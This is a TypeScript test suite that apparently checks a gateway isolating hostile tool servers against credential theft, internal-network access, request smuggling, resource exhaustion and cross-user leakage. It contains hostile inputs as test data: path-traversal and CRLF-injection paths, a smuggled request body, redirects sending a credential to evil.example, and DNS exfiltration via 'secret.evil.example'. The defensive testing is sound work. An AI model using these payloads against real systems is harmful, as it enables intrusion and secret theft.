import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { INSIDE_HOSTS } from '../src/network/inside-hosts.fake.ts';
import { BUNDLES } from '../src/runtime/bundles.generated.ts';
import { ECHO_CODINGS, ECHO_FORMS, formsFound } from './support/echo-forms.ts';
import {
  type HostileSession,
  type HostileWorld,
  type SiteId,
  startHostileWorld,
} from './support/hostile-world.ts';
import { findStored, storedFiles } from './support/stored-files.ts';

let world: HostileWorld;
let ada: HostileSession;

beforeAll(async () => {
  world = await startHostileWorld();
  ada = await world.sessionOf('ada');
});

afterAll(() => world.stop());

/** What an attempt brought of an HTTP answer. */
interface Answer {
  readonly status: number;
  readonly statusText: string;
  readonly url: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly cookies: readonly string[];
  readonly body: string;
}

async function fetched(url: string, init: object = {}, session = ada): Promise<Answer> {
  const outcome = await session.attempt('fetch', { url, ...init });
  if (!outcome.done) throw new Error(`no answer: ${JSON.stringify(outcome)}`);
  return outcome.done as Answer;
}

const at = (id: SiteId, path: string) => `${world.sites[id].origin}${path}`;
const insideUrl = (host = '127.0.0.1') => `http://${host}:${world.inside.port}/`;
const refusedAs = (reason: string) => expect.stringContaining(`"reason":"${reason}"`);

describe('a hostile tool reaches its third parties', () => {
  test.each<[SiteId, string, string]>([
    ['bearer', 'authorization', 'Bearer SECRET'],
    ['header', 'x-api-key', 'SECRET'],
    ['basic', 'authorization', 'Basic BASE64'],
  ])('by the connection "%s", whose credential it does not hold', async (id, header, form) => {
    const secret = world.planted.get(id) ?? '';
    const { status } = await fetched(at(id, '/request?mine'), { headers: { [header]: 'of the tool' } });
    const value = form.replace('SECRET', secret).replace('BASE64', btoa(`ada:${secret}`));
    expect([status, world.sites[id].seen.at(-1)?.headers[header]]).toEqual([200, value]);
  });

  test('by the connection "query", and cannot name another key', async () => {
    await fetched(at('query', '/request?key=mine&a=b&KEY=mine&key[]=mine'));
    const seen = new URL(world.sites.query.seen.at(-1)?.url ?? '', world.sites.query.origin);
    expect([...seen.searchParams]).toEqual([
      ['a', 'b'],
      ['key', world.planted.get('query')],
    ]);
  });

  test('with none of what it says of itself, of others, and of where it goes', async () => {
    const headers = {
      host: 'evil.example',
      cookie: 'session=1',
      'cf-connecting-ip': '10.0.0.1',
      'x-forwarded-for': '10.0.0.1',
      'proxy-authorization': 'Basic eA==',
      range: 'bytes=0-3',
      accept: 'text/plain',
    };
    await fetched(at('bearer', '/request?bare'), { headers, cf: { resolveOverride: 'evil.example' } });
    const { host, ...seen } = world.sites.bearer.seen.at(-1)?.headers ?? {};
    expect(host).toBe(new URL(world.sites.bearer.origin).host);
    const open = [
      'accept',
      'accept-encoding',
      'authorization',
      'cache-control',
      'cf-worker',
      'pragma',
      'user-agent',
    ];
    expect(
      Object.keys(seen)
        .filter(name => name !== 'connection')
        .sort(),
    ).toEqual(open);
    expect(seen.accept).toBe('text/plain');
  });

  test.each([
    ['POST', '/request', 'method'],
    ['DELETE', '/request', 'method'],
    ['TRACE', '/request', 'method'],
    ['GET', '/closed', 'path'],
    ['GET', '/requests', 'path'],
    ['GET', '/open/../closed', 'path'],
    ['GET', '/open/%2e%2e/closed', 'path'],
    ['GET', '/open/..%2fclosed', 'path'],
    ['GET', '/open/..%5cclosed', 'path'],
    ['GET', '/open\\..\\closed', 'path'],
    ['GET', '//open', 'path'],
    ['GET', '/open/%0d%0aHost:%20evil.example', 'path'],
  ])('and not by %s %s', async (method, path, reason) => {
    const before = world.sites.header.seen.length;
    const outcome = await ada.attempt('fetch', { url: at('header', path), method });
    if (outcome.done) expect(outcome.done).toMatchObject({ status: 403, body: refusedAs(reason) });
    expect(world.sites.header.seen.length).toBe(before);
  });

  test('and smuggles no second request, by line breaks or lengths', async () => {
    expect(await ada.attempt('header', { name: 'accept', value: 'a\r\nHost: evil.example' })).toMatchObject({
      failed: expect.stringContaining('Invalid header value'),
    });
    const body = 'GET /smuggled HTTP/1.1\r\nhost: evil.example\r\n\r\n';
    const headers = { 'content-length': '0', 'transfer-encoding': 'chunked', connection: 'close' };
    await fetched(at('bearer', '/request?smuggling'), { method: 'POST', headers, body });
    expect(world.sites.bearer.seen.at(-1)).toMatchObject({ url: '/request?smuggling', body });
    expect(world.sites.bearer.seen.some(({ url }) => url.startsWith('/smuggled'))).toBe(false);
  });
});

describe('a hostile tool does not get its credential told', () => {
  test('by the search that follows, which finds it in each form', async () => {
    const [, secret = ''] = [...world.planted][0] ?? [];
    for (const form of Object.keys(ECHO_FORMS)) {
      const init = { headers: { authorization: `Bearer ${secret}` } };
      const bytes = await (await fetch(at('bearer', `/echo?form=${form}`), init)).arrayBuffer();
      expect(formsFound([Buffer.from(bytes).toString('latin1')], secret)).not.toEqual([]);
    }
  });

  test.each(Object.keys(ECHO_FORMS))('by an echo as %s, whole, in pieces and compressed', async form => {
    const codings = Object.keys(ECHO_CODINGS).map(coding => `&coding=${coding}`);
    for (const more of ['', '&chunked', ...codings]) {
      const { status, body } = await fetched(at('bearer', `/echo?form=${form}${more}`));
      expect([more, status, body]).toEqual([more, 200, expect.stringContaining('[redacted]')]);
    }
  });

  test.each<SiteId>(['header', 'query', 'basic'])('by the connection "%s"', async id => {
    expect((await fetched(at(id, '/request?a=b'))).body).toContain('[redacted]');
  });

  test.each(['raw', 'base64', 'percent', 'hex'])('by headers and status words as %s', async form => {
    const { headers, cookies, statusText, body } = await fetched(at('bearer', `/echo-headers?form=${form}`));
    expect(headers.link).toContain('[redacted]');
    expect([cookies, statusText, body]).toEqual([[], 'OK', '']);
  });

  test('by where a third party redirects to', async () => {
    for (const to of [
      'https://evil.example/CREDENTIAL',
      `${insideUrl()}?x=CREDENTIAL`,
      at('query', '/request?x=CREDENTIAL'),
    ]) {
      const { status, body } = await fetched(at('bearer', `/redirect?to=${encodeURIComponent(to)}`));
      expect([status, body]).toEqual([403, refusedAs('redirect')]);
      expect(body).not.toMatch(/evil|127\.0/);
    }
    const { url } = await fetched(
      at('bearer', `/redirect?to=${encodeURIComponent('/request?x=CREDENTIAL')}`),
    );
    expect(url).toBe(at('bearer', `/redirect?to=${encodeURIComponent('/request?x=CREDENTIAL')}`));
  });

  test('by functions of the platform that it has replaced', async () => {
    expect(await ada.attempt('listenIn', { url: at('bearer', '/request') })).toMatchObject({
      done: { response: { status: 200 } },
    });
  });

  test('by anything that can be reached from its globals, environment, context or modules', async () => {
    const { done } = await ada.attempt('surroundings');
    expect(done).toMatchObject({ env: ['STATE'], url: 'http://isolate.invalid/mcp' });
    const names = (done as { headers: [string, string][] }).headers.map(([name]) => name);
    expect(names.filter(name => /authorization|cookie|session|^cf-/.test(name))).toEqual([]);
    expect(await ada.attempt('workersModule')).toMatchObject({ done: { exports: ['default'] } });
  });
});

describe('a hostile tool does not get inside', () => {
  test.each(INSIDE_HOSTS)('by the host %s, by itself or by a redirect', async host => {
    expect(await fetched(insideUrl(host))).toMatchObject({ status: 403 });
    const to = encodeURIComponent(insideUrl(host));
    for (const status of [302, 307]) {
      expect(await fetched(at('bearer', `/redirect?status=${status}&to=${to}`))).toMatchObject({
        status: 403,
      });
    }
  });

  test('by another port, scheme or user of a host that it may call', async () => {
    const { host } = new URL(world.sites.bearer.origin);
    for (const url of [insideUrl(), `https://${host}/`, `http://${host}@127.0.0.1:${world.inside.port}/`]) {
      const outcome = await ada.attempt('fetch', { url });
      if (outcome.done) expect(outcome.done).toMatchObject({ status: 403 });
    }
  });

  test.each([
    ['socket', /proxy request failed/],
    ['nodeSocket', /./],
    ['stateSocket', /./],
    ['nodeHttp', /./],
  ])('by a %s', async (what, why) => {
    for (const port of [world.inside.port, world.sites.bearer.port]) {
      expect(await ada.attempt(what, { host: '127.0.0.1', port })).toMatchObject({
        failed: expect.stringMatching(why),
      });
    }
  });

  test('by a WebSocket, an upgrade, an EventSource or a beacon', async () => {
    for (const url of [insideUrl(), at('bearer', '/request')]) {
      expect(await ada.attempt('webSocket', { url: url.replace('http', 'ws') })).toMatchObject({
        failed: expect.stringContaining('403'),
      });
      expect(await ada.attempt('upgrade', { url })).toMatchObject({ done: { socket: false, status: 403 } });
    }
    expect(await ada.attempt('eventSource', { url: insideUrl() })).toMatchObject({ failed: 'Error: error' });
    await ada.attempt('beacon', { url: insideUrl() });
  });

  test('by the cache, the state or modules', async () => {
    for (const given of [{ url: insideUrl() }, { url: insideUrl(), name: 'mine' }]) {
      expect(await ada.attempt('cache', given)).toMatchObject({
        failed: expect.stringContaining('No Cache'),
      });
    }
    expect(await ada.attempt('stateFetch', { url: insideUrl() })).toMatchObject({
      failed: expect.any(String),
    });
    for (const name of ['node:fs', 'node:child_process', 'cloudflare:email', 'index.js', './memory.js']) {
      expect(await ada.attempt('module', { name })).toMatchObject({
        failed: expect.stringMatching(/No such module/),
      });
    }
  });

  test.each(['lookup', 'resolve4', 'resolveTxt'])(
    'by asking for a name, into which a secret could be put (%s)',
    async how => {
      expect(await ada.attempt('dns', { how, name: 'secret.evil.example' })).toMatchObject({
        failed: expect.any(String),
      });
    },
  );

  test('of its own gateway', async () => {
    for (const path of ['/healthz', '/mcp/memory', '/oauth/token']) {
      expect(await fetched(`${world.gateway.origin}${path}`)).toMatchObject({
        status: 403,
        body: refusedAs('origin'),
      });
    }
  });

  test.each(['eval', 'makeFunction', 'compile'])('or makes code of data (%s)', async what => {
    expect(await ada.attempt(what)).toMatchObject({ failed: expect.stringContaining('disallowed') });
  });
});

describe('what a hostile tool leaves behind is not there', () => {
  const nothing = [null, null, null];

  test('for another session of its user, another user, or another server', async () => {
    expect((await ada.attempt('remember', { text: 'of ada' })).done).toEqual(nothing);
    expect((await ada.attempt('remember', { text: 'of ada' })).done).toEqual(['of ada', 'of ada', 'of ada']);
    for (const [user, server] of [
      ['ada', 'hostile'],
      ['eve', 'hostile'],
      ['ada', 'hostile-shared'],
    ] as const) {
      const other = await world.sessionOf(user, server);
      expect((await other.attempt('remember', { text: `of ${user}` })).done).toEqual(nothing);
    }
  });

  test('for another user, where sessions share an isolate', async () => {
    const [one, two, eve] = await Promise.all(
      ['bob', 'bob', 'eve'].map(user => world.sessionOf(user, 'hostile-shared')),
    );
    expect((await one?.attempt('remember', { text: 'of bob' }))?.done).toEqual(nothing);
    expect((await two?.attempt('remember', { text: 'of bob' }))?.done).toEqual([
      'of bob',
      'of bob',
      'of bob',
    ]);
    expect((await eve?.attempt('remember', { text: 'of eve' }))?.done).toEqual(nothing);
  });
});

describe('a hostile tool does not keep the gateway busy', () => {
  test('by answers that are huge, as they are or unpacked', async () => {
    const named = await fetched(at('bearer', '/huge?bytes=1000001&named'));
    expect(named).toMatchObject({ status: 502, headers: { 'gatehouse-error': 'egress_response_too_large' } });
    for (const coding of ['', 'gzip', 'br', 'deflate']) {
      const outcome = await ada.attempt('fetch', {
        url: at('bearer', `/huge?bytes=9000000&coding=${coding}`),
      });
      expect(outcome).toMatchObject({ failed: expect.any(String) });
    }
  });

  test('by bodies that are huge or never end', async () => {
    const tooLarge = { done: { response: { status: 413 } } };
    const url = at('bearer', '/request?huge');
    expect(await ada.attempt('bodyInPieces', { url, pieces: 100 })).toMatchObject(tooLarge);
    expect(await ada.attempt('bodyInPieces', { url, isEndless: true })).toMatchObject(tooLarge);
    expect(world.sites.bearer.seen.some(each => each.url === '/request?huge')).toBe(false);
  });

  test('by answers that never come or never end', async () => {
    expect(await fetched(at('bearer', '/silent'))).toMatchObject({
      status: 504,
      headers: { 'gatehouse-error': 'egress_timeout' },
    });
    expect(await ada.attempt('fetch', { url: at('bearer', '/endless') })).toMatchObject({
      failed: expect.any(String),
    });
    await vi.waitFor(() => expect(world.sites.bearer.streaming).toBe(0));
  });

  test('but is told what comes as it comes', async () => {
    expect(await ada.attempt('readSlowly', { url: at('bearer', '/endless') })).toEqual({
      done: 'data: tick\n\n',
    });
    await vi.waitFor(() => expect(world.sites.bearer.streaming).toBe(0));
  });

  test.each([true, false])('after its call was cancelled (signal passed on: %s)', async passSignal => {
    const bob = await world.sessionOf('bob');
    const call = {
      name: 'attempt',
      arguments: { what: 'fetchUntilCancelled', with: { url: at('bearer', '/silent'), passSignal } },
    };
    const calling = bob.raw.request('slow', 'tools/call', call);
    await vi.waitFor(() => expect(world.sites.bearer.streaming).toBe(1));
    const startedAtMs = performance.now();
    await bob.raw.post({ jsonrpc: '2.0', method: 'notifications/cancelled', params: { requestId: 'slow' } });
    await vi.waitFor(() => expect(world.sites.bearer.streaming).toBe(0));
    expect(performance.now() - startedAtMs).toBeLessThan(2000);
    await (await calling).body?.cancel();
  });
});

describe('after all of it', () => {
  test('the build of the gateway has no hostile server', () => {
    expect(BUNDLES.servers.map(({ name }) => name).filter(name => name.startsWith('hostile'))).toEqual([]);
    expect(world.gateway.servers).toEqual(expect.arrayContaining(['hostile', 'hostile-shared']));
  });

  test('nothing inside was reached', () => {
    expect(world.inside.hits).toBe(0);
  });

  test('nothing that tool code could read holds a credential, in any form', () => {
    expect(world.told.length).toBeGreaterThan(500);
    const found = [...world.planted].map(([id, secret]) => [id, formsFound(world.told, secret)]);
    expect(Object.fromEntries(found)).toEqual({ bearer: [], header: [], query: [], basic: [] });
  });

  test('nothing stored or printed holds a credential', () => {
    expect(findStored(storedFiles(world.gateway.stateDir), world.planted)).toEqual([]);
    expect(formsFound([world.gateway.output()], world.planted.get('bearer') ?? '')).toEqual([]);
  });
});
